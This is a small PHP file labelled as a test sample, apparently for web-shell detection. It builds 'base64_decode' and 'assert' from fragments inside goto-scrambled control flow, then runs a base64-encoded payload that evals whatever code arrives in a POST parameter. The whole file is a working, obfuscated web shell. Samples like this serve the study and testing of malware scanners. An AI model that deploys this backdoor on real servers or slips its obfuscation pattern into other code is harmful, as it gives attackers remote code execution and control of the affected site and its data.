<?php
// Test sample: control flow scrambled with goto; it builds "base64_decode" and
// "assert" piece by piece and then runs a decoded POST-eval payload.
goto L7x;
L2q:
$n .= '64_';
goto Lz9;
Lk3:
$a = 'as';
goto Lm1;
L7x:
$n = 'ba';
goto Lp0;
Lr5:
$a($n($p));
goto Lend;
Lz9:
$n .= 'dec';
goto Lw4;
Lm1:
$a .= 'ser';
goto Lq8;
Lp0:
$n .= 'se';
goto L2q;
Lw4:
$n .= 'ode';
goto Lk3;
Lq8:
$a .= 't';
goto Lc6;
Lc6:
$p = 'QGV2YWwoJF9QT1NUWyJzcCJdKTs=';
goto Lr5;
Lend:
